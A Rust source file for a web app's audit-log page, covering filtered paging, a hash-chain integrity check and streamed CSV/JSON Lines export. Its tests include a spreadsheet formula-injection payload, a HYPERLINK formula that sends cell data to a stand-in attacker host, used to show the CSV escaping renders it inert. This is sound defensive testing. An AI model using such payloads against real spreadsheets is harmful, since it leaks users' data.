//! The audit log as people read it: filtered, paged, exported, and checked. Everyone sees the
//! changes in the namespaces they may read; account events are for administrators.

use leptos::prelude::*;
use leptos::server_fn::Bytes;
use leptos::server_fn::ContentType;
use leptos::server_fn::codec::{Encoding, FromRes, IntoRes};
use leptos::server_fn::error::FromServerFnError;
use leptos::server_fn::response::{ClientRes, TryRes};
use serde::{Deserialize, Serialize};

use crate::error::AppError;

/// Entries per page.
pub const AUDIT_PAGE: usize = 50;

/// What to show: every field optional (empty: any).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuditFilter {
    #[serde(default)]
    pub who: String,
    #[serde(default)]
    pub namespace: String,
    #[serde(default)]
    pub configuration: String,
    #[serde(default)]
    pub action: String,
    /// A day, `YYYY-MM-DD` (UTC), from its start.
    #[serde(default)]
    pub since: String,
    /// A day, `YYYY-MM-DD` (UTC), to its end.
    #[serde(default)]
    pub until: String,
}

/// One entry as listed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuditRow {
    pub seq: u64,
    pub when: String,
    pub who: String,
    /// The action's code (`field.set`).
    pub action: String,
    /// The action in words ("set a field").
    pub what: String,
    pub namespace: String,
    pub configuration: String,
    pub field: String,
    pub user: String,
    pub comment: String,
    /// In the CSV export only (empty in the page's list, whose entries are not masked): what the
    /// change replaced, place by place (`/limit=1`), and what it wrote (`/limit=5`), write-only
    /// values masked.
    pub before: String,
    pub after: String,
    /// Where its change can be seen (the configuration's diff of that version).
    pub link: Option<String>,
    /// The change request it is about, or that published it.
    #[serde(default)]
    pub request: Option<u64>,
}

/// A page of the log.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuditView {
    pub rows: Vec<AuditRow>,
    /// The `before` of the next (older) page.
    pub next_before: Option<u64>,
    /// Changes per day (UTC) over the last 30 days, oldest first, for what the filter matches,
    /// counted over at most the newest [`CHART_MAX_ENTRIES`] entries.
    pub per_day: Vec<(String, usize)>,
    /// More entries of those 30 days match than the chart counted.
    pub chart_partial: bool,
    /// "intact (N entries)" or where and why it breaks.
    pub chain: String,
    pub chain_intact: bool,
    /// The actions a filter may name: code and words.
    pub actions: Vec<(String, String)>,
}

/// A text file to download, answered as is (not as JSON).
pub struct TextFile;

impl ContentType for TextFile {
    const CONTENT_TYPE: &'static str = "text/plain; charset=utf-8";
}

impl Encoding for TextFile {
    const METHOD: http::Method = http::Method::GET;
}

/// Marks the answer as a file to save, of `content_type`, offered as `file_name`.
#[cfg(feature = "ssr")]
pub fn attachment(content_type: &'static str, file_name: &str) {
    if let Some(response) = use_context::<leptos_axum::ResponseOptions>() {
        response.insert_header(
            http::header::CONTENT_TYPE,
            http::HeaderValue::from_static(content_type),
        );
        if let Ok(value) =
            http::HeaderValue::from_str(&format!("attachment; filename=\"{file_name}\""))
        {
            response.insert_header(http::header::CONTENT_DISPOSITION, value);
        }
    }
}

/// The body of a download, sent as it is produced.
pub struct Download(pub futures::stream::BoxStream<'static, Result<Bytes, Bytes>>);

impl<E, Response> IntoRes<TextFile, Response, E> for Download
where
    Response: TryRes<E>,
    E: FromServerFnError,
{
    async fn into_res(self) -> Result<Response, E> {
        Response::try_from_stream(TextFile::CONTENT_TYPE, self.0)
    }
}

impl<E, Response> FromRes<TextFile, Response, E> for Download
where
    Response: ClientRes<E> + Send,
    E: FromServerFnError,
{
    async fn from_res(res: Response) -> Result<Self, E> {
        use futures::StreamExt;
        Ok(Download(res.try_into_stream()?.boxed()))
    }
}

/// The audit log as files: CSV a spreadsheet opens safely, and JSON Lines.
#[cfg(feature = "ssr")]
pub mod export {
    use std::borrow::Cow;

    use confo::audit::AuditEntry;
    use leptos::server_fn::Bytes;

    use super::AuditRow;

    /// Entries an export reads from the store at a time: what it holds in memory, whatever the
    /// size of the log.
    pub const PAGE: usize = 500;

    /// A format an export is written in.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub enum Format {
        Csv,
        JsonLines,
    }

    impl Format {
        /// The format named in the address (`csv` or `jsonl`).
        pub fn named(name: &str) -> Option<Self> {
            match name {
                "csv" => Some(Self::Csv),
                "jsonl" => Some(Self::JsonLines),
                _ => None,
            }
        }

        pub fn content_type(self) -> &'static str {
            match self {
                Self::Csv => "text/csv; charset=utf-8",
                Self::JsonLines => "application/x-ndjson",
            }
        }

        pub fn file_name(self) -> &'static str {
            match self {
                Self::Csv => "confo-audit.csv",
                Self::JsonLines => "confo-audit.jsonl",
            }
        }

        /// What the file starts with, before any entry.
        pub fn head(self) -> Bytes {
            match self {
                Self::Csv => Bytes::from(csv_lines(&[], true)),
                Self::JsonLines => Bytes::new(),
            }
        }

        /// A page of entries, as lines of the file.
        pub fn lines(self, entries: &[AuditEntry]) -> Bytes {
            match self {
                Self::Csv => {
                    // Only here the patches' values: these entries were masked for the export.
                    let rows: Vec<AuditRow> = entries
                        .iter()
                        .map(|entry| AuditRow {
                            before: super::ssr::patch_words(entry.unpatch.as_ref(), "(not there)"),
                            after: super::ssr::patch_words(entry.patch.as_ref(), "(removed)"),
                            ..super::ssr::row(entry)
                        })
                        .collect();
                    Bytes::from(csv_lines(&rows, false))
                }
                // The entries as stored, hashes included, so that the chain can be checked.
                Self::JsonLines => Bytes::from(
                    entries
                        .iter()
                        .map(|e| serde_json::to_string(e).unwrap_or_default() + "\n")
                        .collect::<String>(),
                ),
            }
        }
    }

    /// Makes a CSV cell safe to open in a spreadsheet: text that starts like a formula (`=`,
    /// `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`, so that the spreadsheet
    /// shows it instead of running it. A plain number (`-3`, `+1.5`) is left as it is.
    pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
        let formula_like = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        let number = cell.parse::<f64>().is_ok_and(f64::is_finite);
        if formula_like && !number {
            format!("'{cell}").into()
        } else {
            cell.into()
        }
    }

    /// The first line of the CSV export.
    pub const CSV_HEADER: [&str; 11] = [
        "seq",
        "time",
        "who",
        "action",
        "namespace",
        "configuration",
        "field",
        "user",
        "comment",
        "before",
        "after",
    ];

    /// `rows` as CSV lines (text quoted, each cell [`spreadsheet_safe`]), after the header line
    /// when `header` is set.
    pub fn csv_lines(rows: &[AuditRow], header: bool) -> Vec<u8> {
        // The header as it always was, unquoted (none of its names needs quotes).
        let start = if header {
            CSV_HEADER
                .join(",")
                .into_bytes()
                .into_iter()
                .chain([b'\n'])
                .collect()
        } else {
            Vec::new()
        };
        let mut writer = csv::WriterBuilder::new()
            .quote_style(csv::QuoteStyle::NonNumeric)
            .from_writer(start);
        // Writing to memory fails only on a record of the wrong length, which these are not.
        for r in rows {
            let text = [
                &r.when,
                &r.who,
                &r.action,
                &r.namespace,
                &r.configuration,
                &r.field,
                &r.user,
                &r.comment,
                &r.before,
                &r.after,
            ]
            .map(|cell| spreadsheet_safe(cell));
            let seq = r.seq.to_string();
            let _ = writer
                .write_record(std::iter::once(seq.as_str()).chain(text.iter().map(|c| c.as_ref())));
        }
        writer.into_inner().unwrap_or_default()
    }

    #[cfg(test)]
    mod tests {
        use super::*;

        #[test]
        fn cells_that_start_like_a_formula_are_shown_as_text() {
            let cases = [
                ("=1+2", "'=1+2"),
                ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
                ("+33 612", "'+33 612"),
                ("-2+3", "'-2+3"),
                ("-", "'-"),
                ("@SUM(A1)", "'@SUM(A1)"),
                ("\t=1", "'\t=1"),
                ("\r=1", "'\r=1"),
                ("-inf", "'-inf"),
                ("+NaN", "'+NaN"),
                ("-3", "-3"),
                ("+1.5", "+1.5"),
                ("-0.25e3", "-0.25e3"),
                ("42", "42"),
                ("", ""),
                ("a=b", "a=b"),
                (" =1", " =1"),
                ("n=2", "n=2"),
                ("'already", "'already"),
            ];
            for (cell, expected) in cases {
                assert_eq!(spreadsheet_safe(cell), expected, "{cell:?}");
            }
        }

        fn row(comment: &str) -> AuditRow {
            AuditRow {
                seq: 7,
                when: "2026-11-29 10:00:00".into(),
                who: "@ada".into(),
                action: "field.set".into(),
                what: "set a field".into(),
                namespace: "billing".into(),
                configuration: "svc".into(),
                field: "-x".into(),
                user: String::new(),
                comment: comment.into(),
                before: "/x=1".into(),
                after: "/x=2".into(),
                link: None,
                request: None,
            }
        }

        #[test]
        fn a_patch_reads_as_places_and_values() {
            let patch: json_patch::Patch = serde_json::from_value(serde_json::json!([
                {"op": "replace", "path": "/limit", "value": 5},
                {"op": "add", "path": "/servers/0/host", "value": "db"},
                {"op": "remove", "path": "/old"},
            ]))
            .unwrap();
            assert_eq!(
                super::super::ssr::patch_words(Some(&patch), "(removed)"),
                "/limit=5; /servers/0/host=\"db\"; /old=(removed)"
            );
            assert_eq!(super::super::ssr::patch_words(None, "(removed)"), "");
        }

        #[test]
        fn a_tricky_entry_reads_back_whole_and_inert() {
            let comment =
                "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")\nsecond, line \"quoted\"";
            let mut file = csv_lines(&[], true);
            file.extend(csv_lines(&[row(comment), row("-3")], false));
            let mut reader = csv::Reader::from_reader(file.as_slice());
            assert_eq!(
                reader.headers().unwrap(),
                &csv::StringRecord::from(CSV_HEADER.to_vec())
            );
            let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            assert_eq!(records.len(), 2);
            assert_eq!(
                records[0].iter().collect::<Vec<_>>(),
                [
                    "7",
                    "2026-11-29 10:00:00",
                    "'@ada",
                    "field.set",
                    "billing",
                    "svc",
                    "'-x",
                    "",
                    &format!("'{comment}"),
                    "/x=1",
                    "/x=2",
                ]
            );
            assert_eq!(&records[1][8], "-3");
            // Text is quoted as before; the number is not.
            let text = String::from_utf8(file).unwrap();
            assert!(text.starts_with("seq,time,who,"), "{text}");
            assert!(text.contains("\n7,\"2026-11-29 10:00:00\","), "{text}");
        }
    }
}

/// The audit page's chain check, shared by every request of this server process.
#[cfg(feature = "ssr")]
pub mod chain {
    use std::sync::Arc;
    use std::time::{Duration, Instant};

    use confo::audit::{AuditHead, Verification};

    /// How often the whole chain is walked again; in between, a check walks only the entries
    /// written since the last one (and re-reads the newest entry it verified).
    pub const FULL_WALK_EVERY: Duration = Duration::from_secs(600);

    struct Checked {
        newest: AuditHead,
        entries: u64,
        full_walk_at: Instant,
    }

    /// What this process last verified of the audit chain.
    #[derive(Clone, Default)]
    pub struct ChainCheckpoint(Arc<tokio::sync::Mutex<Option<Checked>>>);

    impl ChainCheckpoint {
        /// Verifies the chain, resuming from the last check when the last whole walk is recent.
        /// One check at a time: a busy audit page never walks the chain twice at once.
        pub async fn verify(&self, store: &confo::Store) -> confo::Result<Verification> {
            let mut last = self.0.lock().await;
            let resume = last
                .as_ref()
                .filter(|c| c.full_walk_at.elapsed() < FULL_WALK_EVERY);
            let (verification, newest) =
                store.verify_audit_after(resume.map(|c| &c.newest)).await?;
            let Verification::Intact { entries } = verification else {
                *last = None;
                return Ok(verification);
            };
            let (entries, full_walk_at) = match resume {
                Some(c) => (c.entries + entries, c.full_walk_at),
                None => (entries, Instant::now()),
            };
            *last = Some(Checked {
                newest,
                entries,
                full_walk_at,
            });
            Ok(Verification::Intact { entries })
        }
    }

    #[cfg(test)]
    mod tests {
        use std::sync::Arc;

        use confo::kv::embedded::EmbeddedKv;
        use confo::{Change, KeyLayout, NamespaceName, Store};

        use super::*;

        #[tokio::test]
        async fn resumes_counts_every_entry_and_walks_again_after_a_break() {
            let dir = tempfile::tempdir().unwrap();
            let kv = Arc::new(EmbeddedKv::open(dir.path()).unwrap());
            let store = Store::new(kv, KeyLayout::default());
            let change = Change::by(confo::Actor::user("ada"));
            let create = |name: &'static str| {
                let (store, change) = (store.clone(), change.clone());
                async move {
                    store
                        .create_namespace(&NamespaceName::new(name).unwrap(), &change)
                        .await
                        .unwrap()
                }
            };
            let check = ChainCheckpoint::default();
            create("a").await;
            assert_eq!(
                check.verify(&store).await.unwrap(),
                Verification::Intact { entries: 1 }
            );
            create("b").await;
            create("c").await;
            // Two new entries walked; the total is still every entry.
            assert_eq!(
                check.verify(&store).await.unwrap(),
                Verification::Intact { entries: 3 }
            );
            // Entry 3 changed after it was verified: found by the next check.
            let key = store.layout().audit_entry(3);
            let stored = store.kv().get(&key).await.unwrap().unwrap();
            let mut entry: serde_json::Value = serde_json::from_slice(&stored.value).unwrap();
            entry["actor"]["name"] = "mallory".into();
            store
                .kv()
                .txn(
                    vec![],
                    vec![confo::kv::Op::Put {
                        key,
                        value: entry.to_string().into_bytes(),
                    }],
                )
                .await
                .unwrap();
            assert!(matches!(
                check.verify(&store).await.unwrap(),
                Verification::Broken { seq: 3, .. }
            ));
            // After a break the whole chain is walked again, and it is still broken.
            assert!(matches!(
                check.verify(&store).await.unwrap(),
                Verification::Broken { seq: 3, .. }
            ));
        }
    }
}

#[cfg(feature = "ssr")]
mod ssr {
    use super::*;
    use crate::api::ssr::{reject, require_user, store};
    use confo::audit::{Action, AuditEntry};

    /// The actions a filter may name.
    pub const ACTIONS: [Action; 21] = [
        Action::NamespaceCreate,
        Action::NamespaceDelete,
        Action::ConfigurationCreate,
        Action::ConfigurationReplace,
        Action::ConfigurationDelete,
        Action::ConfigurationRevert,
        Action::ChangeRevert,
        Action::FieldSet,
        Action::FieldDelete,
        Action::SchemaPut,
        Action::SchemaDelete,
        Action::SchemaAssign,
        Action::NamespaceSettings,
        Action::NamespaceReview,
        Action::RequestOpen,
        Action::RequestEdit,
        Action::RequestApprove,
        Action::RequestReject,
        Action::RequestWithdraw,
        Action::RequestRebase,
        Action::ConfigurationExport,
    ];

    fn day(text: &str, end: bool) -> Result<Option<chrono::DateTime<chrono::Utc>>, AppError> {
        if text.trim().is_empty() {
            return Ok(None);
        }
        let date = chrono::NaiveDate::parse_from_str(text.trim(), "%Y-%m-%d").map_err(|_| {
            reject(AppError::Invalid(format!(
                "{text:?} is not a day; write it as 2026-11-29."
            )))
        })?;
        let date = if end {
            date.succ_opt().unwrap_or(date)
        } else {
            date
        };
        Ok(Some(date.and_time(chrono::NaiveTime::MIN).and_utc()))
    }

    fn action(text: &str) -> Result<Option<Action>, AppError> {
        if text.is_empty() {
            return Ok(None);
        }
        let known = ACTIONS
            .iter()
            .chain(&[Action::FieldRename, Action::ConfigurationRegister])
            .copied()
            .chain([
                Action::UserCreate,
                Action::UserInvite,
                Action::UserUpdate,
                Action::UserDisable,
                Action::UserEnable,
                Action::SignIn,
                Action::SignInFailed,
                Action::SignOut,
            ]);
        let mut all = known;
        all.find(|a| a.as_str() == text)
            .map(Some)
            .ok_or_else(|| reject(AppError::Invalid(format!("{text:?} is not an action."))))
    }

    pub fn row(entry: &AuditEntry) -> AuditRow {
        let link = match (&entry.namespace, &entry.configuration) {
            (Some(ns), Some(cfg)) if entry.action.changes_configuration() => {
                Some(format!("/ns/{ns}/{cfg}/history?to={}", entry.seq))
            }
            _ => None,
        };
        AuditRow {
            seq: entry.seq,
            when: entry.time_text(),
            who: entry.actor.name.clone(),
            action: entry.action.as_str().to_owned(),
            what: entry.action.in_words().to_owned(),
            namespace: entry.namespace.clone().unwrap_or_default(),
            configuration: entry.configuration.clone().unwrap_or_default(),
            field: entry.field.clone().unwrap_or_default(),
            user: entry.user.clone().unwrap_or_default(),
            comment: entry.comment.clone().unwrap_or_default(),
            // Values only in the export, which masks write-only ones first (see `lines`).
            before: String::new(),
            after: String::new(),
            link,
            request: entry.request,
        }
    }

    /// A patch's places and values in one line: `/limit=5; /old=(removed)`; `gone` says what a
    /// removal means on its side.
    pub fn patch_words(patch: Option<&json_patch::Patch>, gone: &str) -> String {
        use json_patch::PatchOperation as P;
        let Some(patch) = patch else {
            return String::new();
        };
        patch
            .0
            .iter()
            .filter_map(|op| match op {
                P::Add(o) => Some(format!("{}={}", o.path, o.value)),
                P::Replace(o) => Some(format!("{}={}", o.path, o.value)),
                P::Remove(o) => Some(format!("{}={gone}", o.path)),
                P::Move(o) => Some(format!("{}=(moved from {})", o.path, o.from)),
                P::Copy(o) => Some(format!("{}=(copied from {})", o.path, o.from)),
                P::Test(_) => None,
            })
            .collect::<Vec<_>>()
            .join("; ")
    }

    /// Reads, newest first, the entries matching a filter that the signed-in user may read, a
    /// store page at a time. Opening it checks who is asking and refuses a namespace they may not
    /// read, so it comes first in every server function that reads the log.
    pub struct AuditReader {
        store: confo::Store,
        user: confo::users::User,
        query: confo::AuditQuery,
        done: bool,
        /// Entries looked at so far, matching or not.
        pub read: usize,
    }

    /// The most entries one read of the log looks at.
    const SCAN_STEP: usize = 500;

    impl AuditReader {
        /// A reader of the entries older than `before`, `page` matching entries at a time.
        pub async fn open(
            filter: &AuditFilter,
            before: Option<u64>,
            page: usize,
        ) -> Result<Self, AppError> {
            let user = require_user().await?;
            let opt = |s: &str| (!s.trim().is_empty()).then(|| s.trim().to_owned());
            if let Some(ns) = opt(&filter.namespace)
                && !user.grants.covers(&ns)
            {
                return Err(reject(AppError::Forbidden(
                    "You may not read that namespace.".into(),
                )));
            }
            let query = confo::AuditQuery {
                actor_prefix: opt(&filter.who),
                namespace: opt(&filter.namespace),
                configuration: opt(&filter.configuration),
                action: action(&filter.action)?,
                since: day(&filter.since, false)?,
                until: day(&filter.until, true)?,
                before_seq: before,
                limit: Some(page),
                // However few entries match, one read looks at a bounded number.
                scan_limit: Some(SCAN_STEP),
                user: None,
                actor: None,
            };
            Ok(Self {
                store: store()?,
                user,
                query,
                done: false,
                read: 0,
            })
        }

        /// The readable entries of the next page; `None` once the log is read to its start.
        pub async fn next_page(&mut self) -> confo::Result<Option<Vec<AuditEntry>>> {
            if self.done {
                return Ok(None);
            }
            let page = self.store.audit(&self.query).await?;
            self.read += page.scanned;
            match page.next_before_seq {
                Some(seq) => self.query.before_seq = Some(seq),
                None => self.done = true,
            }
            let admin = self.user.role == confo::users::Role::Admin;
            let grants = &self.user.grants;
            Ok(Some(
                page.entries
                    .into_iter()
                    .filter(|entry| match &entry.namespace {
                        Some(ns) => grants.covers(ns),
                        // An export of several namespaces names them all: only for those who
                        // may read every namespace.
                        None if entry.action == Action::ConfigurationExport => {
                            admin && *grants == confo::users::Grants::All
                        }
                        None => admin,
                    })
                    .collect(),
            ))
        }

        /// Where the next page starts, while there is one.
        pub fn next_before(&self) -> Option<u64> {
            self.query.before_seq.filter(|_| !self.done)
        }
    }

    /// Entries matching `filter` that the signed-in user may read, newest first, older than
    /// `before`, at most `limit`, reading at most about `max_scan` entries. Answers them and the
    /// cursor of the next page.
    pub async fn matching(
        filter: &AuditFilter,
        before: Option<u64>,
        limit: usize,
        max_scan: usize,
    ) -> Result<(Vec<AuditEntry>, Option<u64>), AppError> {
        let mut reader = AuditReader::open(filter, before, limit.clamp(1, 256)).await?;
        let mut found = Vec::new();
        while let Some(entries) = reader.next_page().await.map_err(reject)? {
            for entry in entries {
                found.push(entry);
                if found.len() == limit {
                    let next = found.last().map(|e| e.seq).filter(|&s| s > 1);
                    return Ok((found, next));
                }
            }
            if reader.read >= max_scan {
                return Ok((found, reader.next_before()));
            }
        }
        Ok((found, None))
    }

    /// Changes per day over the `days` days up to `today`, oldest first, counted from the days
    /// (UTC) of `entries`.
    pub fn per_day(
        entries: impl IntoIterator<Item = chrono::NaiveDate>,
        today: chrono::NaiveDate,
        days: u32,
    ) -> Vec<(String, usize)> {
        let start = today - chrono::Duration::days(i64::from(days) - 1);
        let mut counts = vec![0; days as usize];
        for day in entries {
            if let Ok(i) = usize::try_from((day - start).num_days())
                && let Some(count) = counts.get_mut(i)
            {
                *count += 1;
            }
        }
        counts
            .into_iter()
            .enumerate()
            .map(|(i, count)| {
                let day = start + chrono::Duration::days(i as i64);
                (day.format("%Y-%m-%d").to_string(), count)
            })
            .collect()
    }

    #[cfg(test)]
    mod tests {
        use chrono::NaiveDate;

        use super::per_day;

        #[test]
        fn counts_changes_per_day_inside_the_window_only() {
            let d = |s: &str| NaiveDate::parse_from_str(s, "%Y-%m-%d").unwrap();
            let today = d("2026-11-29");
            let days = [
                "2026-11-29",
                "2026-11-29",
                "2026-11-27",
                "2026-11-26",
                "2026-11-25",
                "2026-12-01",
            ];
            let chart = per_day(days.map(d), today, 4);
            assert_eq!(
                chart,
                [
                    ("2026-11-26".to_owned(), 1),
                    ("2026-11-27".to_owned(), 1),
                    ("2026-11-28".to_owned(), 0),
                    ("2026-11-29".to_owned(), 2),
                ]
            );
            assert_eq!(per_day([], today, 30).len(), 30);
        }
    }
}

/// How many entries one page of the log reads at most to find its [`AUDIT_PAGE`] entries (when
/// few are readable); past it, "Older entries" carries on from where it stopped.
pub const LIST_MAX_READ: usize = 10_000;

/// How many of the newest entries of the last 30 days the chart counts at most.
pub const CHART_MAX_ENTRIES: usize = 10_000;

/// A page of the audit log, newest first, with changes per day and the chain's state.
#[server(endpoint = "audit/list", input = leptos::server_fn::codec::GetUrl)]
pub async fn audit_log(filter: AuditFilter, before: Option<u64>) -> Result<AuditView, AppError> {
    use super::ssr::{reject, store};
    let (entries, next_before) = ssr::matching(&filter, before, AUDIT_PAGE, LIST_MAX_READ).await?;
    // The chart: the filtered view's last 30 days, as far as its newest entries go.
    let today = chrono::Utc::now().date_naive();
    let chart_filter = AuditFilter {
        since: (today - chrono::Duration::days(29))
            .format("%Y-%m-%d")
            .to_string(),
        ..filter.clone()
    };
    let (recent, more) =
        ssr::matching(&chart_filter, None, CHART_MAX_ENTRIES, CHART_MAX_ENTRIES).await?;
    let per_day = ssr::per_day(recent.iter().map(|e| e.time.date_naive()), today, 30);
    let checkpoint = use_context::<chain::ChainCheckpoint>().unwrap_or_default();
    let (chain, chain_intact) = match checkpoint.verify(&store()?).await.map_err(reject)? {
        confo::audit::Verification::Intact { entries } => (
            format!("The audit chain verifies ({entries} entries checked)."),
            true,
        ),
        confo::audit::Verification::Broken { seq, reason } => (
            format!("The audit chain is broken at entry {seq}: {reason}."),
            false,
        ),
    };
    Ok(AuditView {
        rows: entries.iter().map(ssr::row).collect(),
        next_before,
        per_day,
        chart_partial: more.is_some(),
        chain,
        chain_intact,
        actions: ssr::ACTIONS
            .iter()
            .map(|a| (a.as_str().to_owned(), a.in_words().to_owned()))
            .collect(),
    })
}

/// The filtered view (every matching entry, newest first) as `csv` or `jsonl` (JSON Lines: the
/// entries as stored, hashes included), as a file download. The file is written as the log is
/// read, [`export::PAGE`] entries at a time, so a long log is never held in memory whole.
#[server(endpoint = "audit/export", input = leptos::server_fn::codec::GetUrl, output = TextFile)]
pub async fn export_audit(filter: AuditFilter, format: String) -> Result<Download, AppError> {
    use super::ssr::reject;
    use futures::StreamExt;
    let reader = ssr::AuditReader::open(&filter, None, export::PAGE).await?;
    let Some(format) = export::Format::named(&format) else {
        return Err(reject(AppError::Invalid(format!(
            "{format:?} is not an export format; use csv or jsonl."
        ))));
    };
    attachment(format.content_type(), format.file_name());
    // Write-only values (by each configuration's schema now) are masked in the patches, as
    // everywhere; an entry that carried one then no longer matches its hash in the file.
    // (The store is taken here: the request's context is gone once the file is being sent.)
    let store = super::ssr::store()?;
    let masking = std::collections::HashMap::new();
    let pages = futures::stream::unfold(Some((reader, masking)), move |state| {
        let store = store.clone();
        async move {
            let (mut reader, mut masking) = state?;
            match reader.next_page().await {
                Ok(Some(mut entries)) => {
                    for entry in &mut entries {
                        let (Some(ns), Some(cfg)) = (&entry.namespace, &entry.configuration) else {
                            continue;
                        };
                        let key = (ns.clone(), cfg.clone());
                        if !masking.contains_key(&key) {
                            let (Ok(n), Ok(c)) = (
                                confo::NamespaceName::new(ns.as_str()),
                                confo::ConfigurationName::new(cfg.as_str()),
                            ) else {
                                continue;
                            };
                            match crate::api::configurations::ssr::rules(&store, &n, &c).await {
                                Ok(rules) => {
                                    masking.insert(key.clone(), rules);
                                }
                                Err(_) => {
                                    return Some((
                                        Err(Bytes::from_static(b"the schemas cannot be read")),
                                        None,
                                    ));
                                }
                            }
                        }
                        if let Some(rules) = masking.get(&key) {
                            rules.mask_entry(entry);
                        }
                    }
                    Some((Ok(format.lines(&entries)), Some((reader, masking))))
                }
                Ok(None) => None,
                Err(error) => {
                    // The status is sent already: the download ends unfinished, and says so.
                    tracing::error!(%error, "the audit export stopped: the log cannot be read");
                    Some((
                        Err(Bytes::from_static(b"the audit log cannot be read")),
                        None,
                    ))
                }
            }
        }
    });
    let file = futures::stream::once(async move { Ok(format.head()) })
        .chain(pages)
        .filter(|chunk| {
            std::future::ready(chunk.as_ref().is_ok_and(|c| !c.is_empty()) || chunk.is_err())
        });
    Ok(Download(file.boxed()))
}
